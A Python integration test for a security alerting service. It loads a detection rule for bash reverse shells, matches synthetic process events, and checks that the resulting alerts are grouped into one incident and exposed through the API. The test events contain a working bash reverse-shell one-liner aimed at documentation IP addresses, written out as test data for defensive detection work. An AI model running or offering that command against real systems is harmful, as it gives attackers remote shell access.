"""The seam with the detection side: alerts made by the real engine and written by the real alert sink
are grouped into incidents right after the write (before any refresh) and served by the API."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest

from collector.alerts import alert_for_match
from collector.api.app import create_app
from collector.api.settings import ApiSettings
from collector.detection.engine import DetectionEngine
from collector.incidents.service import IncidentService
from collector.sinks.elasticsearch import ElasticsearchSink
from tests.integration.test_api_support import elastic_store, issue_tokens, refresh
from tests.support.events import process_exec

pytestmark = pytest.mark.integration
REPO = Path(__file__).resolve().parents[2]

RULE = """
title: Reverse shell through bash
id: 9d1f8f0e-4c1b-4d8e-9f3a-6a0e1c2b3d44
status: experimental
description: bash redirects its standard streams to a TCP socket
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        CommandLine|contains: /dev/tcp/
    condition: selection
level: critical
tags:
    - attack.execution
    - attack.t1059.004
"""


async def test_sink_alerts_become_an_incident_a_responder_can_work(stack: Any, tmp_path: Path) -> None:
    (tmp_path / "reverse_shell.yml").write_text(RULE)
    engine = DetectionEngine.from_paths([tmp_path], REPO / "rules" / "pipelines" / "linux-ecs.yml")
    assert engine.errors == []
    events = [
        process_exec(
            "/bin/bash", f"bash -i >& /dev/tcp/203.0.113.{n}/4444 0>&1", host="web01", agency="so-yte"
        )
        for n in (7, 8)
    ]
    matches = [match for event in events for match in engine.match(event)]
    assert len(matches) == 2
    now = datetime.now(UTC)
    documents = [alert_for_match(match, now) for match in matches]

    async with elastic_store(stack.es, refresh="false") as store:
        sink = ElasticsearchSink(store._es, store.names.prefix)
        await sink.start()
        report = await sink.write(documents)
        assert report.created == 2
        service = IncidentService(store)
        await service.on_alerts([document.body for document in documents])  # as the pipeline does
        await service.on_alerts([document.body for document in documents])  # a replay
        tokens = await issue_tokens(store, revoked=False)
        await refresh(store)

        app = create_app(ApiSettings(index_prefix=store.names.prefix), store)
        async with httpx.AsyncClient(
            transport=httpx.ASGITransport(app=app), base_url="http://api.test"
        ) as client:
            who = {"Authorization": f"Bearer {tokens['analyst']}"}
            incidents = (await client.get("/api/v1/incidents?agency=so-yte", headers=who)).json()
            assert incidents["total"] == 1
            incident = incidents["items"][0]
            assert incident["alert_count"] == 2
            assert incident["priority"] == "P1"  # critical on a security-level-3 system
            assert incident["title"] == "Reverse shell through bash on web01"
            detail = (await client.get(f"/api/v1/incidents/{incident['id']}", headers=who)).json()
            assert sorted(alert["id"] for alert in detail["alerts"]) == sorted(d.id for d in documents)
            assert all(alert["incident_id"] == incident["id"] for alert in detail["alerts"])
            listed = (await client.get("/api/v1/alerts?q=reverse shell&min_severity=99", headers=who)).json()
            assert listed["total"] == 2
            first = documents[0].id
            acked = await client.post(
                f"/api/v1/alerts/{first}/acknowledge", json={"reason": "ours"}, headers=who
            )
            assert acked.status_code == 200
            assert acked.json()["document"]["threat"] == documents[0].body["threat"]  # nothing else changed
